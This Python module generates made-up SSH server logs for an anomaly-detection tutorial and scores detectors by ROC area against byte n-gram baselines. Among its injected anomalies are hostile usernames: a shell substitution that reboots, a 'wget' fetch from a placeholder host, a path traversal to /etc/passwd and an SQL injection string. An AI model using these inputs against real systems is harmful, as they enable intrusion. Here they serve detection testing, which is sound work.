"""Logs of an SSH server, made up: for the tutorial of docs/watch.md, with lines that do not belong there.

``python -m ternac.run.ssh_logs make FOLDER`` writes ``train.log``, ``clean.log`` and ``test.log``, and
``labels.json`` with the injected lines of the last and their kinds. ``python -m ternac.run.ssh_logs roc
FOLDER LINES`` reads what ``ternac score --lines`` wrote of ``test.log``, and sets it beside n-grams of bytes
that are counted on ``train.log``: the area under the curve of injected lines found against others reported.
"""

from __future__ import annotations

import json
import math
import random
import sys
from collections import Counter, defaultdict
from collections.abc import Iterator, Sequence
from pathlib import Path

from ternac.errors import TernacError, UsageError
from ternac.files import make_folder, read_bytes, read_json, write_bytes, write_json

__all__ = ["KINDS", "Log", "auc", "make", "ngram_bits", "roc"]

PEOPLE = {
    "alice": (11, "ED25519 SHA256:q9Xv"),
    "bob": (12, "RSA SHA256:Lw3T"),
    "carol": (13, "ED25519 SHA256:8yPd"),
    "dave": (14, "RSA SHA256:Zk5m"),
    "erin": (15, "ED25519 SHA256:cN7r"),
    "backup": (40, "ED25519 SHA256:0aHe"),
    "deploy": (41, "ED25519 SHA256:tU2g"),
}
"""Who logs in: the third number of the address, and the key."""
GUESSED = ("admin", "test", "oracle", "ubuntu", "postgres", "user", "git", "pi")
"""Names that strangers try."""
KINDS = {
    "password": "a user who has a key logs in by password",
    "address": "a user logs in from another user's network",
    "key": "a user logs in with another user's key",
    "stranger": "a guessed name is accepted",
    "root": "root logs in from outside",
    "message": "the server says what it never said",
    "name": "the name that is tried is a command",
}
"""What is injected."""
SIZES = {"train": 24_000, "clean": 4_000, "test": 6_000}
"""Lines of the files."""
EVERY = 60
"""Lines for each injected one."""
ORDERS = (3, 5, 8)


class Log:
    """A server's log: sessions that overlap, strangers that guess."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self._clock, self._process = 7 * 3600, 1000
        self._waiting: list[list[str]] = []

    def lines(self, count: int, *, injected: bool = False) -> Iterator[tuple[str, str]]:
        """Yield lines, each with the kind of what was injected, or nothing."""
        pick, kinds = self._random, list(KINDS)
        for _ in range(count):
            if injected and pick.random() < 1 / EVERY:
                kind = pick.choice(kinds)
                yield self._stamp(self._new_process(), self._injected(kind)), kind
                continue
            while len(self._waiting) < 4:
                self._waiting.append(self._session() if pick.random() < 0.6 else self._stranger())
            group = pick.choice(self._waiting)
            process, text = group[0], group.pop(1)
            if len(group) == 1:
                self._waiting.remove(group)
            yield self._stamp(process, text), ""

    def _stamp(self, process: str, text: str) -> str:
        self._clock += self._random.choice((0, 0, 1, 1, 2, 5, 9))
        day, second = divmod(self._clock, 86400)
        clock = f"{second // 3600:02}:{second // 60 % 60:02}:{second % 60:02}"
        return f"Mar {1 + day % 28:2} {clock} gate sshd[{process}]: {text}\n"

    def _new_process(self) -> str:
        self._process = 1000 + (self._process + self._random.randint(1, 9) - 1000) % 30000
        return str(self._process)

    def _address(self, network: int) -> str:
        return f"10.0.{network}.{self._random.randint(2, 40)}"

    def _outside(self) -> str:
        return f"203.0.113.{self._random.randint(1, 254)}"

    def _port(self) -> int:
        return self._random.randint(32768, 60999)

    def _accepted(self, name: str, address: str, port: int, key: str) -> str:
        return f"Accepted publickey for {name} from {address} port {port} ssh2: {key}"

    def _session(self) -> list[str]:
        name = self._random.choice(list(PEOPLE))
        network, key = PEOPLE[name]
        address, port = self._address(network), self._port()
        return [
            self._new_process(),
            f"Connection from {address} port {port} on 10.0.0.1 port 22",
            self._accepted(name, address, port, key),
            f"pam_unix(sshd:session): session opened for user {name} by (uid=0)",
            f"Received disconnect from {address} port {port}:11: disconnected by user",
            f"Disconnected from user {name} {address} port {port}",
            f"pam_unix(sshd:session): session closed for user {name}",
        ]

    def _stranger(self) -> list[str]:
        name, address, port = self._random.choice(GUESSED), self._outside(), self._port()
        return [
            self._new_process(),
            f"Connection from {address} port {port} on 10.0.0.1 port 22",
            f"Invalid user {name} from {address} port {port}",
            f"Failed password for invalid user {name} from {address} port {port} ssh2",
            f"Connection closed by invalid user {name} {address} port {port} [preauth]",
        ]

    def _injected(self, kind: str) -> str:
        pick = self._random
        name, other = pick.sample(list(PEOPLE), 2)
        network, key = PEOPLE[name]
        if kind == "password":
            return f"Accepted password for {name} from {self._address(network)} port {self._port()} ssh2"
        if kind == "address":
            return self._accepted(name, self._address(PEOPLE[other][0]), self._port(), key)
        if kind == "key":
            return self._accepted(name, self._address(network), self._port(), PEOPLE[other][1])
        if kind == "stranger":
            guessed = pick.choice(GUESSED)
            return f"Accepted password for {guessed} from {self._outside()} port {self._port()} ssh2"
        if kind == "root":
            return f"Accepted password for root from {self._outside()} port {self._port()} ssh2"
        if kind == "message":
            return pick.choice(
                (
                    "error: Could not load host key: /etc/ssh/ssh_host_rsa_key",
                    "fatal: mm_answer_sign: sign: error in libcrypto",
                    "error: maximum authentication attempts exceeded for root",
                    "subsystem request for sftp by user deploy failed, subsystem not found",
                )
            )
        command = pick.choice(("$(reboot)", "a;wget 198.51.100.7/x", "../../etc/passwd", "' OR 1=1--"))
        return f"Invalid user {command} from {self._outside()} port {self._port()}"


def make(folder: Path, seed: int = 1, scale: float = 1.0) -> None:
    """Write the logs; ``scale`` times as many lines as `SIZES` says. Raises UsageError."""
    make_folder(folder)
    for number, (name, count) in enumerate(SIZES.items()):
        log = Log(100 * seed + number)
        made = list(log.lines(max(1, int(scale * count)), injected=name == "test"))
        write_bytes(folder / f"{name}.log", "".join(line for line, _ in made).encode())
        if name == "test":
            write_json(
                folder / "labels.json", {str(at): kind for at, (_, kind) in enumerate(made, 1) if kind}
            )


def auc(bad: Sequence[float], good: Sequence[float]) -> float:
    """Return the chance that one of ``bad`` is above one of ``good``, equal ones counting half."""
    ranked = sorted([(value, 1) for value in bad] + [(value, 0) for value in good])
    below = wins = 0.0
    at = 0
    while at < len(ranked):
        end = at
        while end < len(ranked) and ranked[end][0] == ranked[at][0]:
            end += 1
        bads = sum(which for _, which in ranked[at:end])
        goods = end - at - bads
        wins += bads * (below + goods / 2)
        below += goods
        at = end
    return wins / (len(bad) * len(good))


def ngram_bits(train: bytes, lines: Sequence[bytes], order: int) -> list[float]:
    """Return the bits of each line by n-grams of bytes, mixed from short to long by Witten and Bell's rule.

    Logarithms are real numbers here: nothing of the product depends on them.
    """
    counts = [defaultdict[bytes, Counter[int]](Counter) for _ in range(order)]
    text = b"\n" * (order - 1) + train
    for at in range(order - 1, len(text)):
        for length in range(order):
            counts[length][text[at - length : at]][text[at]] += 1
    totals = [{context: sum(found.values()) for context, found in table.items()} for table in counts]
    result = []
    for line in lines:
        bits, held = 0.0, b"\n" * (order - 1) + line
        for at in range(order - 1, len(held)):
            chance = 1 / 256
            for length in range(order):
                context = held[at - length : at]
                total = totals[length].get(context)
                if total is None:
                    break
                found = counts[length][context]
                chance = (found[held[at]] + len(found) * chance) / (total + len(found))
            bits -= math.log2(chance)
        result.append(bits)
    return result


def roc(folder: Path, scored: Path, measure: str = "bits") -> dict[str, dict[str, float]]:
    """Return the area under the curve by scorer and kind (``all``: of all kinds together).

    Raises UsageError if the files are not those of one log.
    """
    lines = read_bytes(folder / "test.log").splitlines(keepends=True)
    labels: dict[str, str] = read_json(folder / "labels.json")
    try:
        found = [json.loads(line) for line in scored.read_text().splitlines()]
    except (OSError, ValueError) as error:
        raise UsageError(f"cannot read {scored}: {error}", "write it: ternac score --lines FILE") from None
    if len(found) != len(lines):
        raise UsageError(
            f"{scored} has {len(found)} lines, {folder / 'test.log'} has {len(lines)}", "score test.log again"
        )
    scores = {f"model, {measure}": [float(one[measure]) for one in found]}
    train = (folder / "train.log").read_bytes()
    for order in ORDERS:
        scores[f"{order}-grams"] = ngram_bits(train, lines, order)
    kinds = {"all": list(labels)}
    kinds |= {kind: [at for at, which in labels.items() if which == kind] for kind in KINDS}
    result: dict[str, dict[str, float]] = {}
    for name, values in scores.items():
        good = [value for at, value in enumerate(values, 1) if str(at) not in labels]
        result[name] = {
            kind: auc([values[int(at) - 1] for at in which], good) for kind, which in kinds.items() if which
        }
    return result


def main(words: Sequence[str]) -> int:
    """Run the module as its docstring says; returns the exit status."""
    try:
        return _main(words)
    except TernacError as error:
        sys.stderr.write(f"{error}\n" + (f"  hint: {error.hint}\n" if error.hint else ""))
        return 2


def _main(words: Sequence[str]) -> int:
    if len(words) in (2, 3) and words[0] == "make":
        make(Path(words[1]), scale=float(words[2]) if len(words) == 3 else 1.0)
        return 0
    if len(words) in (3, 4) and words[0] == "roc":
        found = roc(Path(words[1]), Path(words[2]), *words[3:])
        for name, row in found.items():
            areas = ", ".join(f"{kind} {area:.4f}" for kind, area in row.items())
            sys.stdout.write(f"{name}: {areas}\n")
        return 0
    sys.stderr.write(f"{__doc__}\n")
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
